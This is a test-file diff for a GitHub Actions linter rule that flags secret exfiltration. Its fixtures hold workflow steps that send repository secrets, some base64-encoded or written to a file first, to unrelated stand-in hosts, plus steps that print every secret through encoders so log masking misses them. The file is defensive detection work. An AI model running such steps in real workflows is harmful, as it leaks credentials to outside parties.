@@ -286,6 +286,71 @@ ${upload}`)}`;
   });
 });
 
+describe('gha-secrets-exfiltration', () => {
+  it('reports a secret named for one service sent as data to another host (body, query, PowerShell body, through env:), high', () => {
+    const sent = `on: push\n${job(`      - run: curl -s -X POST -d "\${{ secrets.NPM_TOKEN }}" https://api.build-insights.dev/v1/report
+      - run: curl -s "https://status.build-insights.dev/ping?k=\${{ secrets.AWS_SECRET_ACCESS_KEY }}"
+      - run: curl -s --data "password=$PYPI" https://telemetry-cdn.net/collect
+        env:
+          PYPI: \${{ secrets.PYPI_API_TOKEN }}
+      - shell: pwsh
+        run: Invoke-WebRequest -Uri https://api.build-insights.dev/r -Method Post -Body "\${{ secrets.DOCKERHUB_TOKEN }}"
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'high', 6],
+      ['gha-secrets-exfiltration', 'high', 7],
+      ['gha-secrets-exfiltration', 'high', 8],
+      ['gha-secrets-exfiltration', 'high', 12],
+    ]);
+  });
+
+  it('reports a secret encoded and then sent (in the pipeline or through a variable), or written to a file a network command sends, critical', () => {
+    const encoded = `on: push\n${job(`      - run: echo "\${{ secrets.DEPLOY_KEY }}" | base64 -w0 | curl -s -X POST --data-binary @- https://api.build-insights.dev/v1/report
+      - run: |
+          T=$(printf '%s' "$KEY" | base64)
+          curl -s "https://api.build-insights.dev/v1/p?t=$T"
+        env:
+          KEY: \${{ secrets.SIGNING_KEY }}
+      - run: |
+          echo "\${{ secrets.DEPLOY_KEY }}" > /tmp/r.txt
+          curl -s -F "file=@/tmp/r.txt" https://api.build-insights.dev/v1/upload
+`)}`;
+    expect(only(encoded, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`).sort()).toEqual(['critical:13', 'critical:6', 'critical:9']);
+  });
+
+  it('reports a secret printed to the log through an encoder (GitHub masks only its own text), critical', () => {
+    const printed = `on: push\n${job(`      - run: echo "\${{ secrets.NPM_TOKEN }}" | base64 | base64
+      - run: printf '%s' "$ALL" | xxd -p
+        env:
+          ALL: \${{ toJSON(secrets) }}
+`)}`;
+    expect(only(printed, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 6],
+      ['gha-secrets-exfiltration', 'critical', 7],
+    ]);
+  });
+
+  it('is quiet on a secret sent as the credential of its own service, a generic secret, Basic auth built with base64, or a key decoded into a file', () => {
+    const normal = `on: push\n${job(`      - run: curl -sf -X POST -H "Authorization: Bearer \${{ secrets.NETLIFY_TOKEN }}" -d @payload.json https://api.netlify.com/api/v1/sites/abc/deploys
+      - run: curl -s -F "file=@coverage.xml" "https://codecov.io/upload/v4?token=\${{ secrets.CODECOV_TOKEN }}"
+      - run: curl -s -X POST "https://api.telegram.org/bot\${{ secrets.TELEGRAM_TOKEN }}/sendMessage" -d chat_id=\${{ secrets.TELEGRAM_CHAT }}
+      - run: curl -X POST "https://deploy.acme.dev/api/webhooks/deploy?token=\${{ secrets.DEPLOY_WEBHOOK_SECRET }}"
+      - run: curl -s -d "client_id=\${{ secrets.CLIENT_ID }}&client_secret=\${{ secrets.CLIENT_SECRET }}" https://login.acme.io/oauth/token > /dev/null
+      - run: curl -sf -H "Authorization: Basic $(echo -n "ci:\${{ secrets.NEXUS_PASSWORD }}" | base64)" -T dist/app.tgz https://nexus.acme.io/repository/npm/
+      - run: curl -sf -u "ci:\${{ secrets.NPM_PASSWORD }}" -T dist/app.tgz https://nexus.acme.io/repository/releases/
+      - run: echo "\${{ secrets.KEYSTORE_B64 }}" | base64 -di > app/release.jks
+      - run: |
+          echo "\${{ secrets.KUBE_CONFIG }}" | base64 -d > kubeconfig
+          echo "ENCODED=$(echo -n "\${{ secrets.NPM_TOKEN }}" | base64)" >> "$GITHUB_ENV"
+          NPM_TOKEN=\${{ secrets.NPM_TOKEN }} npm publish && curl -s https://hooks.acme.dev/notify
+      - run: |
+          echo "\${{ secrets.GPG_KEY }}" > signing.asc
+          curl -s -F "file=@dist/app.tgz" https://uploads.acme.dev/v1
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+});
+
 describe('gha-secrets-inherit', () => {
   it('reports secrets: inherit to another owner, higher at a moving ref; lower for the own organization', () => {
     const workflow = `on: push\njobs:\n  release:\n    uses: some-vendor/workflows/.github/workflows/release.yml@main\n    secrets: inherit\n  pinned:\n    uses: some-vendor/workflows/.github/workflows/scan.yml@${SHA}\n    secrets: inherit\n`;
